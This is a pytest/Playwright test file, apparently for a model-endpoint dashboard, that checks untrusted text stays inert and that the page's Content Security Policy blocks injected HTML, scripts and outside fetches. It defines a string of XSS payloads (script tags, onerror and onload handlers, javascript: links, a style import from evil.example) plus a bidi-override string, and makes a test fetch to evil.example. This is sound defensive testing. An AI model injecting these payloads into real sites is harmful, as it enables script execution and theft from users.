"""What strangers wrote is an attack: in the page it stays text, and nothing of it runs, loads or navigates."""

from typing import Any

import pytest
from tests.app.conftest import Dashboard, Open
from tests.support.service.scripted_fleet import script_fleet
from tests.support.service.scripted_upstream import Answer, Upstream

pytest.importorskip("playwright.async_api", reason="`make test-app` installs Playwright")
from playwright.async_api import expect

pytestmark = pytest.mark.anyio

ATTACK = (
    "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"
    "</pre></script><svg onload=alert(1)><a href='javascript:alert(1)'>x</a>"
    '"onmouseover="alert(1)"><style>@import "https://evil.example/x"</style>${alert(1)}'
)
BIDI = "safe\u202eevil\u202c"


def script_attack(upstream: Upstream) -> None:
    """One endpoint, of which every text is the attack."""
    script_fleet(upstream, 1)
    name = "chat"
    document: dict[str, Any] = upstream.endpoint("failed", message=ATTACK, errorMessage=ATTACK + BIDI)
    document |= {"name": name, "tags": [ATTACK]}
    document["model"] |= {"repository": ATTACK, "revision": ATTACK, "task": ATTACK, "env": {ATTACK: ATTACK}}
    entry = {"line": ATTACK + BIDI, "level": ATTACK, "replica_id": ATTACK, "timestamp": "2026-01-01T00:00:00Z"}
    audit = {"reason": {"endpointPaused": {}}, "endpoint": name, "user": {"name": ATTACK}, "createdAt": ATTACK}
    audit["createdAt"] = "2026-01-01T00:00:00Z"
    replica = {"id": ATTACK, "status": {"stage": ATTACK, "live": True, "startedAt": "2026-01-01T00:00:00Z"}}
    point = {"x": "2026-01-01T00:00:00Z", "y": 1.0}
    span = {"x": "2026-01-01T00:00:00Z", "x2": "2026-01-01T01:00:00Z", "y": ATTACK}
    graphs = {
        "pendingRequest": {"series": [{"status": ATTACK, "data": [point, point]}]},
        "replicasStatus": {"replicaIds": [ATTACK], "series": [{"stage": ATTACK, "data": [span]}]},
    }
    for path, body in {
        "/v2/endpoint/acme": {"items": [document]},
        f"/v2/endpoint/acme/{name}": document,
        f"/v3/endpoint/acme/{name}/logs": [entry],
        f"/v2/endpoint/acme/{name}/replica": {"items": [replica]},
        "/v2/audit-logs/acme": {"list": [audit]},
    }.items():
        upstream.answers("GET", path, Answer(body=body))
    upstream.answers("POST", f"/v2/endpoint/acme/{name}/metrics", Answer(body=graphs))
    upstream.answers("POST", f"/v2/endpoint/acme/{name}/resume", Answer(400, {"error": ATTACK}))


async def test_hostile_text_stays_text_everywhere(upstream: Upstream, dashboard: Dashboard, open_page: Open) -> None:
    script_attack(upstream)
    async with dashboard(upstream.url) as link, open_page(link) as visit:
        page = visit.page
        await expect(page.get_by_role("grid")).to_contain_text("<img src=x onerror=")
        await page.get_by_role("grid").press("ArrowDown")
        await page.get_by_role("grid").press("Enter")
        await expect(page.get_by_role("definition").first).to_have_text(ATTACK)
        await expect(page.get_by_label("Error", exact=True)).to_have_text(ATTACK + "safeevil")
        await expect(page.get_by_role("log")).to_contain_text(ATTACK)
        await expect(page.get_by_role("region", name="Timeline")).to_contain_text("<img src=x")
        await expect(page.get_by_role("figure", name="Load")).to_contain_text("<img src=x")
        await page.get_by_role("button", name="Resume…").click()
        dialog = page.get_by_role("dialog")
        await dialog.get_by_role("button", name="Resume", exact=True).click()
        await expect(dialog.get_by_role("button", name="Close")).to_be_focused()
        made = await page.evaluate(
            "document.querySelectorAll('img, a, svg, iframe, object, main style, main script').length"
        )
        assert made == 0
        assert "hacked" not in await page.title()
        assert not await page.evaluate("document.body.innerText.match(/[\\u202a-\\u202e\\u2066-\\u2069]/)")
        assert not await page.evaluate("document.body.innerText.includes('<untrusted-')")


async def test_no_text_can_become_html_even_if_the_page_tried(
    upstream: Upstream, dashboard: Dashboard, open_page: Open
) -> None:
    """The policy of the page is a second door: it holds where the first one, text nodes, would be forgotten."""
    script_fleet(upstream, 1)
    async with dashboard(upstream.url) as link, open_page(link) as visit:
        tried = await visit.page.evaluate(
            """async () => {
              const outcome = {html: "set"};
              try { document.body.innerHTML = "<b>x</b>"; } catch (error) { outcome.html = error.name; }
              const script = document.createElement("script");
              try { script.textContent = "window.ran = 1"; document.body.append(script); } catch (error) {}
              outcome.ran = window.ran ?? 0;
              outcome.request = await fetch("https://evil.example/").then(() => "sent", (error) => error.name);
              return outcome;
            }"""
        )
        assert tried == {"html": "TypeError", "ran": 0, "request": "TypeError"}
        refusals = ("Content Security Policy", "requires 'Trusted", "Failed to set")
        assert [one for one in visit.problems if not any(refusal in one for refusal in refusals)] == []
        visit.problems.clear()
        visit.requested.discard("https://evil.example")
